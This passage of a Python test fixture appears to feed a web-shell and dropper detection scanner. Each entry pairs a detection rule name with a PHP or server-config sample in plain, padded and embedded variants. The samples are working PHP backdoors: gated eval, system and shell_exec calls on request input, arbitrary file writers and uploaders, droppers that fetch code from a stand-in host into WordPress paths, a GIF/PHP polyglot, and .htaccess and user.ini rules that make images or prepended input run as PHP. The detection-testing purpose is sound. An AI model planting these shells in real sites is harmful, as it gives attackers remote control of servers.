            "<?php if (password_verify(@$_GET['p'], '$2y$10$Q1w2E3r4T5y6U7i8O9p0aeQk3lZy7J2nM8x1c5v9b3n7m1k5j9h3')) { echo '<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>'; if ($_FILES) move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }"
        ),
        True,
    ),  # e/m06.php
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        padded(
            "<?php if (password_verify(@$_GET['p'], '$2y$10$Q1w2E3r4T5y6U7i8O9p0aeQk3lZy7J2nM8x1c5v9b3n7m1k5j9h3')) { echo '<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>'; if ($_FILES) move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }"
        ),
        True,
    ),  # e/m06.php padded
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        embedded(
            "<?php if (password_verify(@$_GET['p'], '$2y$10$Q1w2E3r4T5y6U7i8O9p0aeQk3lZy7J2nM8x1c5v9b3n7m1k5j9h3')) { echo '<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>'; if ($_FILES) move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }"
        ),
        True,
    ),  # e/m06.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php $h = $_SERVER['HTTP_AUTHORIZATION'] ?? ''; if (substr($h, 0, 7) === 'Bearer ' && hash_equals('tok123', substr($h, 7))) { eval(base64_decode($_POST['c'])); }"
        ),
        True,
    ),  # e/m07.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php $h = $_SERVER['HTTP_AUTHORIZATION'] ?? ''; if (substr($h, 0, 7) === 'Bearer ' && hash_equals('tok123', substr($h, 7))) { eval(base64_decode($_POST['c'])); }"
        ),
        True,
    ),  # e/m07.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php $h = $_SERVER['HTTP_AUTHORIZATION'] ?? ''; if (substr($h, 0, 7) === 'Bearer ' && hash_equals('tok123', substr($h, 7))) { eval(base64_decode($_POST['c'])); }"
        ),
        True,
    ),  # e/m07.php embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php if (in_array(md5($_COOKIE['a'] ?? ''), ['e10adc3949ba59abbe56e057f20f883e', '25f9e794323b453885f5181f1b624d0b'])) { system($_COOKIE['c']); }"
        ),
        True,
    ),  # e/m08.php
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded(
            "<?php if (in_array(md5($_COOKIE['a'] ?? ''), ['e10adc3949ba59abbe56e057f20f883e', '25f9e794323b453885f5181f1b624d0b'])) { system($_COOKIE['c']); }"
        ),
        True,
    ),  # e/m08.php padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php if (in_array(md5($_COOKIE['a'] ?? ''), ['e10adc3949ba59abbe56e057f20f883e', '25f9e794323b453885f5181f1b624d0b'])) { system($_COOKIE['c']); }"
        ),
        True,
    ),  # e/m08.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php $f = fopen('../../wp-load-cache.php', 'w+'); fwrite($f, file_get_contents('http://files.example.biz/y')); fclose($f);"
        ),
        True,
    ),  # e/s01.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php $f = fopen('../../wp-load-cache.php', 'w+'); fwrite($f, file_get_contents('http://files.example.biz/y')); fclose($f);"
        ),
        True,
    ),  # e/s01.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php $f = fopen('../../wp-load-cache.php', 'w+'); fwrite($f, file_get_contents('http://files.example.biz/y')); fclose($f);"
        ),
        True,
    ),  # e/s01.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php @file_put_contents(__DIR__ . '/' . $_GET['n'] . '.php', file_get_contents($_GET['u'])); echo 'ok';"
        ),
        True,
    ),  # e/s02.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php @file_put_contents(__DIR__ . '/' . $_GET['n'] . '.php', file_get_contents($_GET['u'])); echo 'ok';"
        ),
        True,
    ),  # e/s02.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php @file_put_contents(__DIR__ . '/' . $_GET['n'] . '.php', file_get_contents($_GET['u'])); echo 'ok';"
        ),
        True,
    ),  # e/s02.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php $o = new SplFileObject('wp-cron2.php', 'w'); $o->fwrite(file_get_contents('http://files.example.biz/c.txt'));"
        ),
        True,
    ),  # e/s03.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php $o = new SplFileObject('wp-cron2.php', 'w'); $o->fwrite(file_get_contents('http://files.example.biz/c.txt'));"
        ),
        True,
    ),  # e/s03.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php $o = new SplFileObject('wp-cron2.php', 'w'); $o->fwrite(file_get_contents('http://files.example.biz/c.txt'));"
        ),
        True,
    ),  # e/s03.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$r = file_get_contents('http://files.example.biz/s.txt');\n$n = 'wp-' . substr(md5(rand()), 0, 6) . '.php';\n$w = fopen($n, 'w');\nfwrite($w, $r);\nfclose($w);\necho $n;\n"
        ),
        True,
    ),  # e/s04.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$r = file_get_contents('http://files.example.biz/s.txt');\n$n = 'wp-' . substr(md5(rand()), 0, 6) . '.php';\n$w = fopen($n, 'w');\nfwrite($w, $r);\nfclose($w);\necho $n;\n"
        ),
        True,
    ),  # e/s04.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$r = file_get_contents('http://files.example.biz/s.txt');\n$n = 'wp-' . substr(md5(rand()), 0, 6) . '.php';\n$w = fopen($n, 'w');\nfwrite($w, $r);\nfclose($w);\necho $n;\n"
        ),
        True,
    ),  # e/s04.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$s = fsockopen('files.example.biz', 80);\nfwrite($s, \"GET /x.txt HTTP/1.1\\r\\nHost: files.example.biz\\r\\nConnection: close\\r\\n\\r\\n\");\n$resp = stream_get_contents($s);\nlist(, $body) = explode(\"\\r\\n\\r\\n\", $resp, 2);\nfile_put_contents('wp-rss3.php', $body);\n"
        ),
        True,
    ),  # e/s05.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$s = fsockopen('files.example.biz', 80);\nfwrite($s, \"GET /x.txt HTTP/1.1\\r\\nHost: files.example.biz\\r\\nConnection: close\\r\\n\\r\\n\");\n$resp = stream_get_contents($s);\nlist(, $body) = explode(\"\\r\\n\\r\\n\", $resp, 2);\nfile_put_contents('wp-rss3.php', $body);\n"
        ),
        True,
    ),  # e/s05.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$s = fsockopen('files.example.biz', 80);\nfwrite($s, \"GET /x.txt HTTP/1.1\\r\\nHost: files.example.biz\\r\\nConnection: close\\r\\n\\r\\n\");\n$resp = stream_get_contents($s);\nlist(, $body) = explode(\"\\r\\n\\r\\n\", $resp, 2);\nfile_put_contents('wp-rss3.php', $body);\n"
        ),
        True,
    ),  # e/s05.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php file_put_contents($p = 'wp-includes/js/tinymce/plugins/x.php', file_get_contents('http://files.example.biz/t.txt')); touch($p, filemtime('wp-config.php'));"
        ),
        True,
    ),  # e/s06.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php file_put_contents($p = 'wp-includes/js/tinymce/plugins/x.php', file_get_contents('http://files.example.biz/t.txt')); touch($p, filemtime('wp-config.php'));"
        ),
        True,
    ),  # e/s06.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php file_put_contents($p = 'wp-includes/js/tinymce/plugins/x.php', file_get_contents('http://files.example.biz/t.txt')); touch($p, filemtime('wp-config.php'));"
        ),
        True,
    ),  # e/s06.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            '<?php $url = "http://" . "files.example.biz/y.txt"; $c = file_get_contents($url); file_put_contents(\'y.php\', $c);'
        ),
        True,
    ),  # e/s08.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            '<?php $url = "http://" . "files.example.biz/y.txt"; $c = file_get_contents($url); file_put_contents(\'y.php\', $c);'
        ),
        True,
    ),  # e/s08.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            '<?php $url = "http://" . "files.example.biz/y.txt"; $c = file_get_contents($url); file_put_contents(\'y.php\', $c);'
        ),
        True,
    ),  # e/s08.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$payload = file_get_contents('https://files.example.biz/p.jpg');\n$code = substr($payload, strpos($payload, '<?php'));\nfile_put_contents('img.php', $code);\n"
        ),
        True,
    ),  # e/s09.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$payload = file_get_contents('https://files.example.biz/p.jpg');\n$code = substr($payload, strpos($payload, '<?php'));\nfile_put_contents('img.php', $code);\n"
        ),
        True,
    ),  # e/s09.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$payload = file_get_contents('https://files.example.biz/p.jpg');\n$code = substr($payload, strpos($payload, '<?php'));\nfile_put_contents('img.php', $code);\n"
        ),
        True,
    ),  # e/s09.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain("<?php $_POST['f'] && file_put_contents($_POST['f'], $_POST['c']);"),
        True,
    ),  # e/t01.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded("<?php $_POST['f'] && file_put_contents($_POST['f'], $_POST['c']);"),
        True,
    ),  # e/t01.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded("<?php $_POST['f'] && file_put_contents($_POST['f'], $_POST['c']);"),
        True,
    ),  # e/t01.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain("<?php file_put_contents(urldecode($_GET['p']), base64_decode($_GET['c']));"),
        True,
    ),  # e/t03.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded("<?php file_put_contents(urldecode($_GET['p']), base64_decode($_GET['c']));"),
        True,
    ),  # e/t03.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded("<?php file_put_contents(urldecode($_GET['p']), base64_decode($_GET['c']));"),
        True,
    ),  # e/t03.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $x = $_REQUEST['x']; $y = $_REQUEST['y']; $fh = fopen($x, 'w') or die(); fwrite($fh, $y); fclose($fh);"
        ),
        True,
    ),  # e/t04.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $x = $_REQUEST['x']; $y = $_REQUEST['y']; $fh = fopen($x, 'w') or die(); fwrite($fh, $y); fclose($fh);"
        ),
        True,
    ),  # e/t04.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $x = $_REQUEST['x']; $y = $_REQUEST['y']; $fh = fopen($x, 'w') or die(); fwrite($fh, $y); fclose($fh);"
        ),
        True,
    ),  # e/t04.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $c = $_POST['c']; $f = $_POST['f']; $r = @fopen($f, 'w'); @fputs($r, base64_decode($c)); @fclose($r);"
        ),
        True,
    ),  # e/t05.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $c = $_POST['c']; $f = $_POST['f']; $r = @fopen($f, 'w'); @fputs($r, base64_decode($c)); @fclose($r);"
        ),
        True,
    ),  # e/t05.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $c = $_POST['c']; $f = $_POST['f']; $r = @fopen($f, 'w'); @fputs($r, base64_decode($c)); @fclose($r);"
        ),
        True,
    ),  # e/t05.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php $resp = wp_remote_get('http://files.example.biz/h.txt'); if (!is_wp_error($resp)) { file_put_contents(ABSPATH . WPINC . '/class-wp-http-cache.php', $resp['body']); }"
        ),
        True,
    ),  # f/f01.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php $resp = wp_remote_get('http://files.example.biz/h.txt'); if (!is_wp_error($resp)) { file_put_contents(ABSPATH . WPINC . '/class-wp-http-cache.php', $resp['body']); }"
        ),
        True,
    ),  # f/f01.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php $resp = wp_remote_get('http://files.example.biz/h.txt'); if (!is_wp_error($resp)) { file_put_contents(ABSPATH . WPINC . '/class-wp-http-cache.php', $resp['body']); }"
        ),
        True,
    ),  # f/f01.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$u = 'http://files.example.biz/k.txt';\n$h = curl_init();\ncurl_setopt($h, CURLOPT_URL, $u);\ncurl_setopt($h, CURLOPT_RETURNTRANSFER, true);\n$out = curl_exec($h);\nfile_put_contents('wp-k.php', $out);\n"
        ),
        True,
    ),  # f/f02.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$u = 'http://files.example.biz/k.txt';\n$h = curl_init();\ncurl_setopt($h, CURLOPT_URL, $u);\ncurl_setopt($h, CURLOPT_RETURNTRANSFER, true);\n$out = curl_exec($h);\nfile_put_contents('wp-k.php', $out);\n"
        ),
        True,
    ),  # f/f02.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$u = 'http://files.example.biz/k.txt';\n$h = curl_init();\ncurl_setopt($h, CURLOPT_URL, $u);\ncurl_setopt($h, CURLOPT_RETURNTRANSFER, true);\n$out = curl_exec($h);\nfile_put_contents('wp-k.php', $out);\n"
        ),
        True,
    ),  # f/f02.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain("<?php fwrite(fopen('cache.php', 'w'), file_get_contents('http://files.example.biz/x'));"),
        True,
    ),  # f/f03.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded("<?php fwrite(fopen('cache.php', 'w'), file_get_contents('http://files.example.biz/x'));"),
        True,
    ),  # f/f03.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded("<?php fwrite(fopen('cache.php', 'w'), file_get_contents('http://files.example.biz/x'));"),
        True,
    ),  # f/f03.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php $c = join('', file('https://files.example.biz/t.txt')); $n = dirname(__FILE__) . '/.' . 'sys.php'; $fp = fopen($n, 'w'); fwrite($fp, $c); fclose($fp);"
        ),
        True,
    ),  # f/f04.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php $c = join('', file('https://files.example.biz/t.txt')); $n = dirname(__FILE__) . '/.' . 'sys.php'; $fp = fopen($n, 'w'); fwrite($fp, $c); fclose($fp);"
        ),
        True,
    ),  # f/f04.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php $c = join('', file('https://files.example.biz/t.txt')); $n = dirname(__FILE__) . '/.' . 'sys.php'; $fp = fopen($n, 'w'); fwrite($fp, $c); fclose($fp);"
        ),
        True,
    ),  # f/f04.php embedded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php if (!file_exists('x.php')) { $src = @file_get_contents('http://files.example.biz/b'); if (!$src) $src = shell_exec('curl -s http://files.example.biz/b'); @file_put_contents('x.php', $src); }"
        ),
        True,
    ),  # f/f05.php
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php if (!file_exists('x.php')) { $src = @file_get_contents('http://files.example.biz/b'); if (!$src) $src = shell_exec('curl -s http://files.example.biz/b'); @file_put_contents('x.php', $src); }"
        ),
        True,
    ),  # f/f05.php padded
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php if (!file_exists('x.php')) { $src = @file_get_contents('http://files.example.biz/b'); if (!$src) $src = shell_exec('curl -s http://files.example.biz/b'); @file_put_contents('x.php', $src); }"
        ),
        True,
    ),  # f/f05.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $_REQUEST['n'] && ($h = fopen($_REQUEST['n'], 'w')) && fwrite($h, base64_decode($_REQUEST['d']));"
        ),
        True,
    ),  # f/f06.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $_REQUEST['n'] && ($h = fopen($_REQUEST['n'], 'w')) && fwrite($h, base64_decode($_REQUEST['d']));"
        ),
        True,
    ),  # f/f06.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $_REQUEST['n'] && ($h = fopen($_REQUEST['n'], 'w')) && fwrite($h, base64_decode($_REQUEST['d']));"
        ),
        True,
    ),  # f/f06.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $p = $_GET['p']; $d = file_get_contents('php://input'); $fp = fopen($p, 'w'); fwrite($fp, $d); fclose($fp);"
        ),
        True,
    ),  # f/f07.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $p = $_GET['p']; $d = file_get_contents('php://input'); $fp = fopen($p, 'w'); fwrite($fp, $d); fclose($fp);"
        ),
        True,
    ),  # f/f07.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $p = $_GET['p']; $d = file_get_contents('php://input'); $fp = fopen($p, 'w'); fwrite($fp, $d); fclose($fp);"
        ),
        True,
    ),  # f/f07.php embedded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php $file = $_POST['file']; $content = $_POST['content']; if (file_put_contents($file, $content) !== false) echo 'Saved';"
        ),
        True,
    ),  # f/f08.php
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php $file = $_POST['file']; $content = $_POST['content']; if (file_put_contents($file, $content) !== false) echo 'Saved';"
        ),
        True,
    ),  # f/f08.php padded
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php $file = $_POST['file']; $content = $_POST['content']; if (file_put_contents($file, $content) !== false) echo 'Saved';"
        ),
        True,
    ),  # f/f08.php embedded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php $x = base64_decode($_REQUEST['x']); $f = '/tmp/' . uniqid(); file_put_contents($f, $x); include_once($f); @unlink($f);"
        ),
        True,
    ),  # f/f09.php
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php $x = base64_decode($_REQUEST['x']); $f = '/tmp/' . uniqid(); file_put_contents($f, $x); include_once($f); @unlink($f);"
        ),
        True,
    ),  # f/f09.php padded
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php $x = base64_decode($_REQUEST['x']); $f = '/tmp/' . uniqid(); file_put_contents($f, $x); include_once($f); @unlink($f);"
        ),
        True,
    ),  # f/f09.php embedded
    (
        "SPAMGEAR_SHELLUI_BareUploader",
        plain(
            "<?php $up = move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']) ? 'ok' : 'fail'; echo $up;"
        ),
        True,
    ),  # f/f11.php
    (
        "SPAMGEAR_SHELLUI_BareUploader",
        padded(
            "<?php $up = move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']) ? 'ok' : 'fail'; echo $up;"
        ),
        True,
    ),  # f/f11.php padded
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        plain(
            "<?php $dir = $_SERVER['HTTP_X_DIR'] ?? '.'; move_uploaded_file($_FILES['f']['tmp_name'], \"$dir/\" . $_FILES['f']['name']);"
        ),
        True,
    ),  # f/f12.php
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        padded(
            "<?php $dir = $_SERVER['HTTP_X_DIR'] ?? '.'; move_uploaded_file($_FILES['f']['tmp_name'], \"$dir/\" . $_FILES['f']['name']);"
        ),
        True,
    ),  # f/f12.php padded
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        embedded(
            "<?php $dir = $_SERVER['HTTP_X_DIR'] ?? '.'; move_uploaded_file($_FILES['f']['tmp_name'], \"$dir/\" . $_FILES['f']['name']);"
        ),
        True,
    ),  # f/f12.php embedded
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain("<?php copy($_FILES['f']['tmp_name'], \"./\" . $_FILES['f']['name']); echo 'k';"),
        True,
    ),  # f/f13.php
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded("<?php copy($_FILES['f']['tmp_name'], \"./\" . $_FILES['f']['name']); echo 'k';"),
        True,
    ),  # f/f13.php padded
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        plain("<?php if (isset($_FILES['f'])) move_uploaded_file($_FILES['f']['tmp_name'], 'x.phtml');"),
        True,
    ),  # f/f14.php
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        padded("<?php if (isset($_FILES['f'])) move_uploaded_file($_FILES['f']['tmp_name'], 'x.phtml');"),
        True,
    ),  # f/f14.php padded
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        embedded("<?php if (isset($_FILES['f'])) move_uploaded_file($_FILES['f']['tmp_name'], 'x.phtml');"),
        True,
    ),  # f/f14.php embedded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php if (md5($_POST['p']) === \"B59C67BF196A4758191E42F76670CEBA\") { echo shell_exec($_POST['c']); }"
        ),
        True,
    ),  # f/f15.php
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php if (md5($_POST['p']) === \"B59C67BF196A4758191E42F76670CEBA\") { echo shell_exec($_POST['c']); }"
        ),
        True,
    ),  # f/f15.php padded
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php if (md5($_POST['p']) === \"B59C67BF196A4758191E42F76670CEBA\") { echo shell_exec($_POST['c']); }"
        ),
        True,
    ),  # f/f15.php embedded
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        plain(
            "<?php if (strcmp(md5($_GET['k']), '827ccb0eea8a706c4c34a16891f84e7b') == 0) array_map($_GET['f'], [$_GET['a']]);"
        ),
        True,
    ),  # f/f16.php
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        padded(
            "<?php if (strcmp(md5($_GET['k']), '827ccb0eea8a706c4c34a16891f84e7b') == 0) array_map($_GET['f'], [$_GET['a']]);"
        ),
        True,
    ),  # f/f16.php padded
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        embedded(
            "<?php if (strcmp(md5($_GET['k']), '827ccb0eea8a706c4c34a16891f84e7b') == 0) array_map($_GET['f'], [$_GET['a']]);"
        ),
        True,
    ),  # f/f16.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php if (crc32($_SERVER['HTTP_X_SIG']) === 2837291) { @assert(base64_decode($_SERVER['HTTP_X_DATA'])); }"
        ),
        True,
    ),  # f/f17.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php if (crc32($_SERVER['HTTP_X_SIG']) === 2837291) { @assert(base64_decode($_SERVER['HTTP_X_DATA'])); }"
        ),
        True,
    ),  # f/f17.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php if (crc32($_SERVER['HTTP_X_SIG']) === 2837291) { @assert(base64_decode($_SERVER['HTTP_X_DATA'])); }"
        ),
        True,
    ),  # f/f17.php embedded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        plain(
            "<?php switch ($_SERVER['HTTP_USER_AGENT']) { case 'XBot/1.0': eval($_POST['x']); break; default: break; }"
        ),
        True,
    ),  # f/f18.php
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        padded(
            "<?php switch ($_SERVER['HTTP_USER_AGENT']) { case 'XBot/1.0': eval($_POST['x']); break; default: break; }"
        ),
        True,
    ),  # f/f18.php padded
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        embedded(
            "<?php switch ($_SERVER['HTTP_USER_AGENT']) { case 'XBot/1.0': eval($_POST['x']); break; default: break; }"
        ),
        True,
    ),  # f/f18.php embedded
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        plain(
            "<?php if (isset($_COOKIE['lang']) && strlen($_COOKIE['lang']) == 32) include base64_decode($_COOKIE['p']);"
        ),
        True,
    ),  # f/f19.php
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        padded(
            "<?php if (isset($_COOKIE['lang']) && strlen($_COOKIE['lang']) == 32) include base64_decode($_COOKIE['p']);"
        ),
        True,
    ),  # f/f19.php padded
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        embedded(
            "<?php if (isset($_COOKIE['lang']) && strlen($_COOKIE['lang']) == 32) include base64_decode($_COOKIE['p']);"
        ),
        True,
    ),  # f/f19.php embedded
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        plain(
            "<?php\n$passhash = '827ccb0eea8a706c4c34a16891f84e7b';\nif (!isset($_COOKIE['auth']) || md5($_COOKIE['auth']) !== $passhash) { http_response_code(404); exit; }\n$cmd = $_POST['cmd'] ?? 'id';\n$out = array();\nexec($cmd . ' 2>&1', $out);\necho implode(PHP_EOL, $out);\n"
        ),
        True,
    ),  # f/f20.php
    (
        "SPAMGEAR_UI_CommandVarConsole",
        padded(
            "<?php\n$passhash = '827ccb0eea8a706c4c34a16891f84e7b';\nif (!isset($_COOKIE['auth']) || md5($_COOKIE['auth']) !== $passhash) { http_response_code(404); exit; }\n$cmd = $_POST['cmd'] ?? 'id';\n$out = array();\nexec($cmd . ' 2>&1', $out);\necho implode(PHP_EOL, $out);\n"
        ),
        True,
    ),  # f/f20.php padded
    (
        "SPAMGEAR_UI_CommandVarConsole",
        embedded(
            "<?php\n$passhash = '827ccb0eea8a706c4c34a16891f84e7b';\nif (!isset($_COOKIE['auth']) || md5($_COOKIE['auth']) !== $passhash) { http_response_code(404); exit; }\n$cmd = $_POST['cmd'] ?? 'id';\n$out = array();\nexec($cmd . ' 2>&1', $out);\necho implode(PHP_EOL, $out);\n"
        ),
        True,
    ),  # f/f20.php embedded
    ("SPAMGEAR_INPUT_ShellOfInput", b"GIF89a\x01\x00\x01\x00<? system($_GET[c]); ?>", True),  # f/f21.gif
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('<FilesMatch "^.*\\.(jpg|png)$">\n  SetHandler application/x-httpd-php7.4\n</FilesMatch>\n'),
        True,
    ),  # f/f23.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded(
            '<FilesMatch "^.*\\.(jpg|png)$">\n  SetHandler application/x-httpd-php7.4\n</FilesMatch>\n'
        ),
        True,
    ),  # f/f23.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddHandler application/x-httpd-php81 .jpg\n"),
        True,
    ),  # f/f24.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddHandler application/x-httpd-php81 .jpg\n"),
        True,
    ),  # f/f24.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddType application/x-httpd-php .jpg .jpeg .png .gif\n"),
        True,
    ),  # f/f25.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddType application/x-httpd-php .jpg .jpeg .png .gif\n"),
        True,
    ),  # f/f25.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('php_value auto_prepend_file "php://input"\n'),
        True,
    ),  # f/f26.htaccess
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('php_value auto_prepend_file "php://input"\n'),
        True,
    ),  # f/f26.htaccess padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain('auto_prepend_file="data:;base64,PD9waHAgZXZhbCgkX1BPU1RbJ3AnXSk7ID8+"\n'),
        True,
    ),  # f/f27.user.ini
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded('auto_prepend_file="data:;base64,PD9waHAgZXZhbCgkX1BPU1RbJ3AnXSk7ID8+"\n'),
        True,
    ),  # f/f27.user.ini padded
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
